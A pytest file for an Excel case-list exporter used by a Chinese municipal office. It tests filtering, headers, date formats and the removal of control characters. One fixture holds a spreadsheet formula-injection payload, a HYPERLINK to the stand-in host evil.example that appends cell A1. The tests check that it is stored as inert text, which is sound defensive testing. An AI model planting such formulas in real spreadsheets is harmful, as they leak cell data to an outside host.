"""The case list export: exactly the filtered cases, filter on top, injection-safe text cells."""

from __future__ import annotations

import openpyxl
import pytest

import main
from exporters.case_list import HEADER_ROW, CaseFilter, write_case_list
from exporters.xlsx_common import clean_text, display_width
from models.drilldown import case_numbers
from models.periods import parse_month
from tests.conftest import insert_cases
from tests.test_scoring import case, late, on_time

NOV = parse_month("2021-11")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture
def list_db(db):
    cases = [
        {**on_time("202111050001", "芗城区城市管理局"), "description": HOSTILE, "address": "+1 路口"},
        {**late("202111050002", "芗城区城市管理局"), "description": "井盖\x00缺失\x07", "address": "@home"},
        {**case("202111050003", "芗城区城市管理局"), "description": "-5 度结冰", "kind": "部件", "minor": "上水井盖"},
        {**on_time("350200202111050004", "漳州移动公司"), "description": "18位编号"},  # 18 digits stays text
        {**on_time("202111050005", "西桥街道办事处"), "description": "普通描述"},
        {**on_time("202110050006", "芗城区城市管理局", filed="2021-10-05 09:00:00"), "description": "上月"},
    ]
    insert_cases(db, cases)
    return db


def read(path):
    """The printed list: the sheet, the filter block above it, its headers and rows."""
    ws = openpyxl.load_workbook(path).active
    about = {ws.cell(r, 1).value: ws.cell(r, 2).value for r in range(2, HEADER_ROW)}
    headers = [c.value for c in ws[HEADER_ROW]]
    rows = list(ws.iter_rows(min_row=HEADER_ROW + 1))
    return ws, about, headers, rows


def read_full(path):
    """The second sheet, every stored field: its headers and rows."""
    ws = openpyxl.load_workbook(path)["完整记录"]
    return [c.value for c in ws[1]], list(ws.iter_rows(min_row=2))


def test_exactly_the_filtered_cases_with_the_filter_on_top(list_db, tmp_path):
    filters = CaseFilter(figure="filed", unit="芗城区城市管理局")
    result = write_case_list(list_db, NOV, filters, tmp_path / filters.file_name(NOV))
    assert result.path.name == "案件清单_2021-11_立案_芗城区城市管理局.xlsx"
    ws, about, headers, rows = read(result.path)
    expected = case_numbers(list_db, NOV, "filed", unit="芗城区城市管理局")
    assert [r[0].value for r in rows] == expected == ["202111050001", "202111050002", "202111050003"]
    assert result.count == 3 and about["案件数"] == "3 件"
    assert about["数字口径"] == "立案" and about["处置单位"] == "芗城区城市管理局"
    assert about["统计周期"].startswith("2021-11") and about["问题类型"] == "全部"
    assert ws.title == "案件清单" and ws.freeze_panes == f"B{HEADER_ROW + 1}"
    assert ws.auto_filter.ref == f"A{HEADER_ROW}:H{HEADER_ROW + 3}"
    assert headers == [
        "案件编号",
        "处置单位",
        "小类",
        "立案时间",
        "处置截止时间",
        "处置结束时间",
        "结案时间",
        "当前阶段",
    ]
    deadline = rows[0][headers.index("处置截止时间")]
    assert deadline.is_date and deadline.number_format == "yy-mm-dd hh:mm"
    full_headers, full_rows = read_full(result.path)
    assert full_headers[:3] == ["案件编号", "问题来源", "受理渠道"] and full_headers[-2:] == [
        "截止时间来源",
        "处置时间来源",
    ]
    assert [r[0].value for r in full_rows] == expected
    assert full_rows[0][full_headers.index("处置截止时间")].number_format.startswith("yyyy-mm-dd")


def test_imported_text_is_never_a_formula_and_controls_are_removed(list_db, tmp_path):
    result = write_case_list(list_db, NOV, CaseFilter(unit="芗城区城市管理局"), tmp_path / "x.xlsx")
    _, about, _, _ = read(result.path)
    headers, rows = read_full(result.path)
    desc, addr = headers.index("问题描述"), headers.index("地址")
    first = rows[0]
    assert first[desc].value == HOSTILE and first[desc].data_type == "s"
    assert first[addr].value == "+1 路口" and first[addr].data_type == "s"
    assert rows[1][desc].value == "井盖缺失" and rows[1][addr].value == "@home" and rows[1][addr].data_type == "s"
    assert rows[2][desc].value == "-5 度结冰" and rows[2][desc].data_type == "s"
    assert result.control_chars_removed == 2 and result.cells_cleaned == 1
    assert about["已清除控制字符"] == "2 个（涉及 1 个单元格）"
    raw = (tmp_path / "x.xlsx").read_bytes()
    assert b"<f>" not in raw  # no formula anywhere in the file


def test_long_case_numbers_stay_text(list_db, tmp_path):
    result = write_case_list(list_db, NOV, CaseFilter(unit="漳州移动公司"), tmp_path / "m.xlsx")
    _, _, _, rows = read(result.path)
    assert rows[0][0].value == "350200202111050004" and rows[0][0].data_type == "s"


def test_kind_minor_search_stage_and_with_subunits(list_db, tmp_path):
    parts = CaseFilter(kind="部件", minor="上水井盖")
    assert [r[0].value for r in read(write_case_list(list_db, NOV, parts, tmp_path / "k.xlsx").path)[3]] == [
        "202111050003"
    ]
    search = CaseFilter(search="井盖缺失")  # matches the cleaned description, and 小类 上水井盖 is searched too
    assert write_case_list(list_db, NOV, search, tmp_path / "s.xlsx").count == 1
    assert write_case_list(list_db, NOV, CaseFilter(search="井盖"), tmp_path / "s2.xlsx").count == 2
    region = CaseFilter(unit="芗城区政府", with_subunits=True, figure="closed")
    result = write_case_list(list_db, NOV, region, tmp_path / "r.xlsx")
    assert [r[0].value for r in read(result.path)[3]] == ["202111050001", "202111050002", "202111050005"]
    assert read(result.path)[1]["处置单位"] == "芗城区政府（含下属单位）"
    assert region.file_name(NOV) == "案件清单_2021-11_结案_芗城区政府含下属.xlsx"
    empty = write_case_list(list_db, NOV, CaseFilter(unit="市民政局"), tmp_path / "e.xlsx")
    assert empty.count == 0 and read(empty.path)[3] == []


def test_clean_text_and_width_helpers():
    assert clean_text("a\x00b\x1fc\x7fd\u0085e") == ("abcde", 4)
    assert clean_text("tab\tand\nnewline") == ("tab\tand\nnewline", 0)
    assert display_width("处置单位") == 8 and display_width("ab（1）") == 7


def test_cli_export_cases(list_db, tmp_path):
    out = tmp_path / "cases.xlsx"
    db = str(tmp_path / "test.db")
    code = main.main(["--db", db, "export", "cases", "--month", "2021-11", "--figure", "closed", "-o", str(out)])
    assert code == 0
    _, about, _, rows = read(out)
    assert about["数字口径"] == "结案" and len(rows) == 4


def test_case_list_says_where_a_deadline_came_from_in_chinese(db, tmp_path):
    """截止时间来源 is in the office's words, not the store's codes "export" / "limit"."""
    unit = "西桥街道办事处"
    insert_cases(db, [case("E1", unit), case("L1", unit) | {"deadline_source": "limit"}, case("N1", unit)])
    db.execute("UPDATE cases SET deadline_at = NULL, deadline_source = NULL WHERE case_no = 'N1'")
    path = tmp_path / "cases.xlsx"
    write_case_list(db, parse_month("2021-11"), CaseFilter(), path)
    header, rows = read_full(path)
    column = header.index("截止时间来源")
    got = {row[0].value: row[column].value for row in rows}
    assert got == {"E1": "导出文件", "L1": "按处置时限计算", "N1": None}
